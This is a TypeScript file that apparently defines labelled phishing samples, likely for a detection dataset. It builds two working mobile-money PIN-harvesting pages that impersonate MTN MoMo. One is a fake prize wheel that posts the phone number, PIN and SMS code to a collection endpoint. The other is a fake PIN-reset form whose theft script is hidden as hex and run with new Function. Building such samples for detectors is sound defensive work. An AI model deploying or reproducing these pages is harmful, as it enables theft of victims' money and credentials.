import { htmlRoute, type Entry } from '../entry.js';
import { doc, logos, hexOf } from '../parts/xe-kit.js';

/**
 * Mobile-money PIN harvesters: Orange Money, Wave, MTN MoMo, Moov Money (Flooz) and Algérie Poste
 * Edahabia/BaridiMob pages that promise a bonus or a refund, or threaten a blocked transfer, and ask for
 * the phone number, the secret code and the SMS confirmation code.
 */

const mtnMomoCmPromo: Entry = {
  id: 'xe-mtn-momo-cameroon-promo-pin',
  label: 'phishing',
  kind: 'mobile-money-pin-kit',
  url: 'https://momo-cm-promo.gagnant-2025.xyz/y-ello/',
  body: doc({
    title: 'MTN MoMo Y\'ello Promo 2025',
    lang: 'en',
    css: `body{margin:0;background:#ffcb05;font-family:Arial}.box{max-width:420px;margin:20px auto;background:#fff;border-radius:12px;padding:20px}.wheel{width:180px;height:180px;border-radius:50%;margin:10px auto;background:conic-gradient(#000 0 45deg,#ffcb05 45deg 90deg,#000 90deg 135deg,#ffcb05 135deg 180deg,#000 180deg 225deg,#ffcb05 225deg 270deg,#000 270deg 315deg,#ffcb05 315deg)}input{width:100%;padding:12px;margin:6px 0;box-sizing:border-box;border:1px solid #ccc}button{width:100%;padding:13px;background:#000;color:#ffcb05;border:0;font-weight:700}#f2{display:none}`,
    body: `<div class="box">${logos.mtn(40)}<h2>MoMo Y'ello Promo / Promo MoMo</h2><div class="wheel" id="wh"></div>
<p id="res">Spin to win up to <b>100 000 FCFA</b> / Tournez la roue et gagnez jusqu'à 100 000 FCFA</p><button id="spin">SPIN / TOURNER</button>
<form id="f2"><p><b>You won 50 000 FCFA!</b> Enter your MoMo number and PIN to receive it instantly. / Entrez votre numéro MoMo et votre code PIN pour recevoir le gain.</p>
<input name="n" placeholder="6XX XX XX XX" required><input name="pin" type="password" maxlength="5" placeholder="MoMo PIN" required><button>Receive / Recevoir</button></form></div>
<script>document.getElementById('spin').onclick=function(){var w=document.getElementById('wh');w.style.transition='transform 3s';w.style.transform='rotate(1440deg)';this.style.display='none';setTimeout(function(){f2.style.display='block'},3100)};
document.getElementById('f2').onsubmit=function(e){e.preventDefault();var b=new FormData(this);b.append('op','mtn-cm');fetch('/y-ello/api/save.php',{method:'POST',body:b}).then(function(){location.href='/y-ello/otp.html'})};</script>`,
  }),
  routes: {
    'momo-cm-promo.gagnant-2025.xyz/y-ello/otp.html': htmlRoute(doc({ title: 'MoMo', lang: 'en', body: '<div style="font-family:Arial;max-width:380px;margin:50px auto"><p>Enter the confirmation code sent by MTN to approve the transfer / Entrez le code de confirmation reçu.</p><form method="post" action="/y-ello/api/save.php"><input name="otp" maxlength="6" style="width:100%;padding:12px;font-size:20px"><button style="width:100%;margin-top:10px;padding:12px;background:#000;color:#ffcb05">OK</button></form></div>' })),
  },
};

const mtnMomoCiHexReset: Entry = (() => {
  const host = 'mtnmomo-ci-assistance.info';
  const app = `(function(){var d=document,q=function(s){return d.querySelector(s)};q('#rf').addEventListener('submit',function(e){e.preventDefault();
var p={numero:q('#rn').value,ancien_pin:q('#ro').value,nouveau_pin:q('#rp').value,cni:q('#rc').value,solde:q('#rs').value};
fetch(q('#rf').dataset.u,{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify(p)}).then(function(){q('#rf').innerHTML='<p>Demande enregistrée. Un agent MTN vous appellera pour finaliser la réinitialisation. Gardez votre téléphone allumé.</p>'})})})();`;
  return {
    id: 'xe-mtn-momo-ci-pin-reset-hex',
    label: 'phishing',
    kind: 'mobile-money-pin-kit',
    url: `https://${host}/reinitialiser-code`,
    body: doc({
      title: 'MTN MoMo Côte d\'Ivoire - Réinitialisation du code secret',
      css: `body{margin:0;font-family:Arial;background:#fafafa}.y{background:#ffcb05;padding:10px 18px}.f{max-width:460px;margin:24px auto;background:#fff;padding:22px;border:1px solid #eee}input{width:100%;padding:11px;margin:6px 0 12px;box-sizing:border-box}button{width:100%;padding:12px;background:#000;color:#ffcb05;border:0}`,
      body: `<div class="y">${logos.mtn(34)}</div><div class="f"><h3>Code secret MoMo oublié ou bloqué ?</h3><p>Réinitialisez-le en ligne en 2 minutes sans vous déplacer en agence.</p>
<form id="rf" data-u="/api/v2/reset"><input id="rn" placeholder="Numéro MoMo (05 XX XX XX XX)"><input id="rc" placeholder="Numéro de CNI / Passeport"><input id="ro" type="password" placeholder="Ancien code secret"><input id="rp" type="password" placeholder="Nouveau code secret">
<input id="rs" placeholder="Solde approximatif de votre compte (FCFA)"><button>Réinitialiser</button></form></div>
<script>(function(h){var s='';for(var i=0;i<h.length;i+=2)s+='%'+h.substr(i,2);new Function(decodeURIComponent(s))()})('${hexOf(app)}');</script>`,
    }),
  };
})();

export const entries: Entry[] = [mtnMomoCmPromo, mtnMomoCiHexReset];
